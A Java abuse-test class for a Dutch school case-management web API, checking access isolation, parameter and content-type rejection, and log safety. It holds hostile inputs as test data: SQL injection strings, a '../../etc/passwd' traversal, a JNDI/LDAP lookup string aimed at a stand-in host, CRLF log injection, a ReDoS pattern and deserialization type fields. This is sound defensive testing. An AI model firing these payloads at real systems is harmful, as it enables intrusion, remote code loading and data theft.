package nl.routebord.web.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.time.Clock;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import nl.routebord.RoutebordTest;
import nl.routebord.web.Browser;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Attacks of the list of abuse tests that no other test tries; {@code abuse-tests.txt}
 * says where the others are.
 */
@RoutebordTest
class AbuseTest {

	private static @Nullable ApiMainJob shared;

	@LocalServerPort
	private int port;

	@Autowired
	private Clock clock;

	@Autowired
	private JdbcTemplate database;

	private Browser browser;

	@BeforeEach
	void freshVisitor() {
		browser = new Browser(port);
	}

	@Test
	void aPartOfOneCaseIsNotThereInAnother() {
		ApiMainJob mine = one();
		ApiMainJob other = job().signal();
		ApiClient school = as("a.demir");
		school.upload(other.casePath() + "/documents", Map.of("title", "Rapport", "category", "OPP"), ApiMainJob.pdf())
			.is(201);
		UUID document = database.queryForObject("select id from app.document_document where case_file = ?", UUID.class,
				other.caseFile());
		school.get(other.casePath() + "/documents/" + document).is(200);
		school.get(mine.casePath() + "/documents/" + document).is(404);
		browser.signIn("a.demir");
		String number = database.queryForObject("select number from app.route_case_file where id = ?", String.class,
				mine.caseFile());
		assertThat(browser.get("/routes/" + number + "/documenten/" + document).statusCode()).isEqualTo(404);
	}

	@Test
	void aForeignIdInABodyIsNotThereEither() {
		as("k.dewit").post("/tlv-applications", Map.of("caseId", one().caseFile())).is(404);
		as("k.dewit").post("/tlv-applications", Map.of("caseId", UUID.randomUUID())).is(404);
	}

	@ParameterizedTest
	@ValueSource(strings = { "?fields=diagnosis", "?expand=pupil", "?include=journal", "?sort=birthDate",
			"?state=MDO&health=true", "?_method=DELETE" })
	void whatTheApiDoesNotKnowToAskForIsRefused(String query) {
		HttpResponse<String> answer = browser.api("GET", "/api/v1/cases" + query, "a.demir", "");
		assertThat(answer.statusCode()).isEqualTo(400);
		assertThat(answer.body()).contains("Deze parameter bestaat niet");
	}

	@ParameterizedTest
	@ValueSource(strings = { "approved", "initiator", "status", "phase", "sourceUnitId", "createdBy", "@class", "@type",
			"serializedValue" })
	void aPropertyThatIsNotOnesToSetIsRefused(String property) {
		ApiMainJob job = one();
		HttpResponse<String> answer = browser.api("POST", "/api/v1" + job.casePath() + "/journal-entries", "a.demir",
				"{\"kind\":\"NOTE\",\"on\":\"" + LocalDate.now(clock)
						+ "\",\"category\":\"NOTE_SHARED\",\"text\":\"x\",\"" + property + "\":\"java.lang.Runtime\"}",
				"Idempotency-Key", UUID.randomUUID().toString());
		assertThat(answer.statusCode()).isEqualTo(400);
		assertThat(as("a.demir").get(job.casePath() + "/journal-entries").text()).doesNotContain("\"text\":\"x\"");
	}

	@ParameterizedTest
	@ValueSource(
			strings = { "application/x-java-serialized-object", "text/plain", "application/x-www-form-urlencoded" })
	void nothingButJsonIsReadAsJson(String type) {
		ApiMainJob job = one();
		HttpResponse<String> answer = browser.send("POST", "/api/v1" + job.casePath() + "/journal-entries", "{}",
				"Content-Type", type, "Authorization", basic());
		assertThat(answer.statusCode()).isEqualTo(415);
	}

	@Test
	void aMethodIsNotOverriddenAndOnlyPostsChange() {
		browser.signIn("a.demir");
		String csrf = browser.get("/profiel").body();
		assertThat(csrf).contains("_csrf");
		String settable = "/api/v1/demo/clock"; // PUT is there, so that an override would
												// not give 405
		assertThat(browser
			.send("POST", settable, "_method=PUT", "Authorization", basic(), "Content-Type",
					"application/x-www-form-urlencoded")
			.statusCode()).isEqualTo(405);
		assertThat(browser
			.send("POST", settable, "{}", "Authorization", basic(), "Content-Type", "application/json",
					"X-HTTP-Method-Override", "PUT")
			.statusCode()).isEqualTo(405);
		ApiMainJob job = one();
		int lines = lines(job);
		String path = "/api/v1" + job.casePath() + "/closures";
		for (String method : List.of("HEAD", "OPTIONS", "FOO")) {
			assertThat(browser.send(method, path, "", "Authorization", basic(), "X-HTTP-Method-Override", "POST")
				.statusCode()).as(method).isIn(200, 204, 400, 403, 404, 405, 501);
		}
		assertThat(lines(job)).isEqualTo(lines);
	}

	@ParameterizedTest
	@ValueSource(strings = { "' or 1=1 --", "1;drop table app.route_case_file", "AAAA", "\u0000", "%25%25%25",
			"../../etc/passwd" })
	void aHostilePlaceInAListIsABadRequestOrThePage(String cursor) {
		HttpResponse<String> answer = browser.api("GET",
				"/api/v1/cases?cursor=" + java.net.URLEncoder.encode(cursor, java.nio.charset.StandardCharsets.UTF_8),
				"a.demir", "");
		assertThat(answer.statusCode()).isIn(200, 400, 422);
		assertThat(answer.body()).doesNotContain("SQL").doesNotContain("syntax");
	}

	@Test
	void aFloodOfWildcardsIsTextLikeAnyOther() {
		for (String text : List.of("%".repeat(400), "_".repeat(400), "(a+)+$".repeat(60), "%_%_%_%_%")) {
			long begin = System.nanoTime();
			HttpResponse<String> answer = browser.api("POST", "/api/v1/case-searches", "a.demir",
					"{\"text\":\"" + text + "\"}");
			assertThat(answer.statusCode()).isIn(200, 400, 422);
			assertThat(answer.body()).doesNotContain("R-20");
			assertThat((System.nanoTime() - begin) / 1_000_000).as("ms, with room for a busy machine")
				.isLessThan(5_000);
		}
	}

	@Test
	void aPageIsNoStylesheetWhateverItsAddressEndsOn() {
		browser.signIn("a.demir");
		String number = database.queryForObject("select number from app.route_case_file where id = ?", String.class,
				one().caseFile());
		HttpResponse<String> page = browser.get("/routes/" + number);
		assertThat(page.statusCode()).isEqualTo(200);
		assertThat(page.headers().firstValue("Cache-Control").orElse("")).contains("no-store");
		for (String end : List.of("/1.css", ".css", ";a.css", "%2f1.js", "/leerling.css")) {
			assertThat(browser.get("/routes/" + number + end).statusCode()).as(end).isIn(400, 404);
		}
	}

	@Test
	void whatSomebodySendsBreaksNoLineOfTheLog() {
		String endless = "x".repeat(4_000);
		try (LogLines log = LogLines.from()) {
			browser.signIn("b.timmer");
			browser.get("/beheer/gebruikers", "User-Agent", "${jndi:ldap://kwaad/a} " + endless);
			browser.get("/beheer/%0d%0aWARN%20gelukt", "X-Request-Id", "a\tb");
			assertThat(log.text()).contains("refused by role: GET /beheer/gebruikers")
				.doesNotContain("jndi")
				.doesNotContain("WARN gelukt")
				.doesNotContain(endless);
		}
	}

	@Test
	void aNameThatLooksLikeAnotherIsAnotherName() {
		for (String name : List.of("a.dem\u200bir", "\u0430.demir", "a.demi\u0301r", "a\u2024demir", "a.demir\u202e")) {
			Browser other = new Browser(port);
			other.signIn(name);
			assertThat(other.get("/profiel").headers().firstValue("Location").orElse("")).as(name)
				.contains("/aanmelden");
		}
		database.update("delete from app.identity_sign_in_attempt");
	}

	private int lines(ApiMainJob job) {
		Integer lines = database.queryForObject("select count(*) from app.route_journal_entry where case_file_id = ?",
				Integer.class, job.caseFile());
		return (lines != null) ? lines : -1;
	}

	/**
	 * One case will do: each is a task more for who looks at the first page of theirs.
	 */
	private ApiMainJob one() {
		ApiMainJob known = shared;
		if (known == null) {
			known = job().signal();
			shared = known;
		}
		return known;
	}

	private ApiMainJob job() {
		return new ApiMainJob(this::as, LocalDate.now(clock), "Misbruik" + System.nanoTime());
	}

	private ApiClient as(String username) {
		return new ApiClient(port, username);
	}

	private static String basic() {
		return "Basic " + java.util.Base64.getEncoder()
			.encodeToString("a.demir:routebord-demo".getBytes(java.nio.charset.StandardCharsets.UTF_8));
	}

}
